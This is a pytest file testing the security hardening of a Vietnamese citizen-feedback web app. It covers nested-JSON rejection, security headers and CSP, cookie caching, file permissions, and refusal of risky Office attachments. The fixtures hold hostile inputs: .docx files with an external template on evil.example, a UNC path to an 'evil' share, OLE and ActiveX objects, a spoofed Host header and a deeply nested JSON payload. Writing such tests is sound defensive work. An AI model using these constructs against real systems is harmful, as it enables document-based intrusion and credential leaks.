"""Issue 10.9: the smaller gaps. Nested JSON is a 400, client disconnects log no traceback, every response carries
the security headers (compatible with our pages and the Swagger UI), 405s say what is allowed, the SQLite file and
data directory are private, Office files with embedded objects or external templates are refused, and Open311
discovery names the configured public URL whatever Host the request came with."""

import io
import logging
import os
import re
import stat
import subprocess
import sys
import threading

import anyio
import pytest
from fastapi.testclient import TestClient
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Route

from app.attachments.service import AttachmentRefused, IncomingFile, stage
from app.config import get_settings
from app.headers import CSP, SecurityHeadersMiddleware
from tests.api.conftest import bearer
from tests.attachments.files import docx

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def test_deeply_nested_json_is_a_400_problem(client, api_key):
    deep = "[" * 100_000 + "]" * 100_000
    for path in ("/api/v1/submissions", "/api/v1/webhooks"):
        r = client.post(path, content=deep, headers={**bearer(api_key), "Content-Type": "application/json"})
        assert r.status_code == 400, (path, r.status_code)
        assert r.headers["content-type"].startswith("application/problem+json")
    assert "lồng nhau quá sâu" in client.post("/api/v1/submissions", content=deep, headers={
        **bearer(api_key), "Content-Type": "application/json"}).json()["detail"]
    r = client.post("/api/v1/submissions/DB-2026-ABCDEF/rating", content='{"satisfied": ' + deep + "}",
                    headers={**bearer(api_key), "Content-Type": "application/json"})
    assert r.status_code == 400 and r.headers["content-type"].startswith("application/problem+json")


def test_a_client_that_disconnects_mid_body_logs_no_traceback(app, caplog):
    messages = [{"type": "http.request", "body": b"kind=feedback&", "more_body": True}, {"type": "http.disconnect"}]
    sent = []

    async def receive():
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "http_version": "1.1", "method": "POST", "scheme": "http", "path": "/",
             "raw_path": b"/", "query_string": b"", "root_path": "", "client": ("203.0.113.5", 5000),
             "server": ("testserver", 80),
             "headers": [(b"content-type", b"application/x-www-form-urlencoded"), (b"content-length", b"500"),
                         (b"host", b"testserver")]}
    with caplog.at_level(logging.INFO):
        # A thread of its own: another test may have left an event loop running in this one.
        runner = threading.Thread(target=anyio.run, args=(app, scope, receive, send))
        runner.start()
        runner.join()
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]
    assert any("disconnected" in r.getMessage() for r in caplog.records)


def test_security_headers_on_pages_api_and_files(client):
    for path in ("/", "/track", "/login", "/healthz", "/api/v1/fields", "/static/css/app.css", "/khong-co"):
        h = client.get(path).headers
        assert h["content-security-policy"] == CSP, path
        assert "frame-ancestors 'none'" in h["content-security-policy"] and h["x-frame-options"] == "DENY"
        assert h["referrer-policy"] == "same-origin" and h["x-content-type-options"] == "nosniff"
        assert "geolocation=(self)" in h["permissions-policy"] and "microphone=(self)" in h["permissions-policy"]
        assert "strict-transport-security" not in h  # plain http: no HSTS
    assert "max-age=" in client.get("https://testserver/").headers["strict-transport-security"]


def test_a_response_that_sets_a_cookie_is_never_cached_for_others(app):
    """The public pages may be kept 60 s by shared caches, but not a response carrying a visitor's cookie (session
    with its CSRF token, language choice): a proxy would hand it to the next visitor. A page without a form makes
    no session, so a first visit stays cacheable."""
    for path in ("/cong-khai", "/thong-ke", "/du-lieu-mo", "/du-lieu-mo/cong-khai.json"):
        first = TestClient(app).get(path)
        assert first.status_code == 200 and "set-cookie" not in first.headers, path
        assert first.headers["cache-control"] == "public, max-age=60", path
    visitor = TestClient(app)
    visitor.get("/")  # the form page: a session with a CSRF token
    assert "set-cookie" not in visitor.get("/thong-ke").headers  # the session is not renewed on a page without form

    # The safety net: whatever a route says, a response that sets a cookie goes out private.
    def leaky(request):
        response = PlainTextResponse("hello", headers={"Cache-Control": "public, max-age=60"})
        response.set_cookie("pakn_session", "somebody's")
        return response

    guarded = SecurityHeadersMiddleware(Starlette(routes=[Route("/leaky", leaky)]))
    r = TestClient(guarded).get("/leaky")
    assert "set-cookie" in r.headers and r.headers["cache-control"] == "private, max-age=0, must-revalidate"


def test_our_pages_need_nothing_the_policy_forbids(client):
    """No inline script or handler, nothing from another origin: the CSP costs our pages nothing."""
    for path in ("/", "/track", "/login"):
        html = client.get(path).text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path
        assert not re.search(r"\son[a-z]+=", html) and "javascript:" not in html
        assert not re.search(r'(src|href|action)="(https?:)?//', html), path


def test_swagger_ui_runs_its_one_inline_script_by_hash(client):
    r = client.get("/docs")
    policy = r.headers["content-security-policy"]
    assert "'sha256-" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in policy


@pytest.mark.parametrize(("method", "path"), [("TRACE", "/"), ("DELETE", "/track"), ("TRACE", "/api/v1/submissions"),
                                               ("TRACE", "/open311/v2/discovery.json")])
def test_405_answers_say_what_is_allowed(client, method, path):
    r = client.request(method, path)
    assert r.status_code == 405 and r.headers.get("allow"), (method, path)


def test_sqlite_file_and_data_directory_are_private(tmp_path):
    data = tmp_path / "data"
    code = ("from app.db import get_engine; from sqlalchemy import text\n"
            "with get_engine().connect() as c: c.execute(text('create table t (x int)')); c.commit()")
    env = {**os.environ, "PAKN_DATA_DIR": str(data)}
    env.pop("DATABASE_URL", None)
    subprocess.run([sys.executable, "-c", code], env=env, check=True)
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert stat.S_IMODE((data / "pakn.db").stat().st_mode) == 0o600
    for extra in ("pakn.db-wal", "pakn.db-shm"):
        if (data / extra).exists():
            assert stat.S_IMODE((data / extra).stat().st_mode) & 0o077 == 0


@pytest.mark.parametrize(("extra", "needle"), [
    ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}, "nhúng"),
    ({"word/activeX/activeX1.xml": b"<ax/>"}, "nhúng"),
    ({"word/_rels/settings.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>').encode()}, "bên ngoài"),
    ({"word/_rels/document.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<Relationship Id='rId9' Type='{REL}image' Target='\\\\evil\\share\\a.png' TargetMode='External'/>"
        '</Relationships>').encode()}, "bên ngoài"),
])
def test_office_files_with_embedded_objects_or_external_templates_are_refused(extra, needle):
    with pytest.raises(AttachmentRefused) as refused:
        stage([IncomingFile("bao-cao.docx", io.BytesIO(docx(extra=extra)))])
    assert needle in refused.value.message


def test_office_files_with_hyperlinks_are_accepted():
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId2" Type="{REL}hyperlink" Target="https://dienbien.gov.vn" TargetMode="External"/>'
            '</Relationships>').encode()
    batch = stage([IncomingFile("bao-cao.docx", io.BytesIO(docx(extra={"word/_rels/document.xml.rels": rels})))])
    assert len(batch) == 1
    batch.discard()


def test_open311_discovery_names_the_configured_url_not_the_host_header(client, monkeypatch):
    monkeypatch.setattr(get_settings(), "public_base_url", "https://pakn.dienbien.gov.vn")
    r = client.get("/open311/v2/discovery.json", headers={"Host": "evil.example"})
    assert r.json()["endpoints"][0]["url"] == "https://pakn.dienbien.gov.vn/open311/v2"
